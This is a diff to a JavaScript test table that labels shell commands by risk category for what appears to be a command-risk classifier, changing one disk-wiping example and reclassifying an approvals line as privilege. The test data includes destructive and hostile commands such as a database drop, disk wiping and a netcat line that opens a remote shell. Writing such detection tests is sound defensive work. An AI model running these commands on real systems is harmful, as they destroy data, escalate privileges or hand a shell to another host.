@@ -59,10 +59,10 @@ describe('what the records tell', () => {
     ["psql -c 'drop database x'", 'data-loss'],
     ['sudo id', 'privilege'],
     ['chmod u+s f', 'privilege'],
-    ['dd if=a of=/dev/sda', 'disk-write'],
+    ['wipefs /dev/sda', 'disk-write'],
     ['scp a h:b', 'data-leaving'],
     ['nc -e sh h 1', 'data-leaving'],
-    ['interlock approvals allow x', 'persistence'],
+    ['interlock approvals allow x', 'privilege'],
     ['pkill -u me', 'stops-programs'],
     ['crontab f', 'persistence'],
   ])('%s is a risk of %s', (line, code) => {
